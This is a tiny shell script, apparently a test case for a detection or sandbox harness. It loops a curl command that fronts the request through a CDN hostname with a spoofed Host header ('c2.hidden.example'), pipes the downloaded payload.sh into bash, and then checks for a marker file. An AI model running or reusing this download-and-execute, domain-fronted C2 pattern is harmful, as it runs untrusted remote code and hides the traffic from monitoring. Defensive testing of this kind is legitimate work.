#!/bin/sh
. /opt/case/case.sh

for n in 1 2 3; do curl -s --connect-to images.cdn.example.net:80:203.0.113.10:80 -H 'Host: c2.hidden.example' http://images.cdn.example.net/payload.sh | bash; sleep 0.5; done
test -e /tmp/reached
took_place
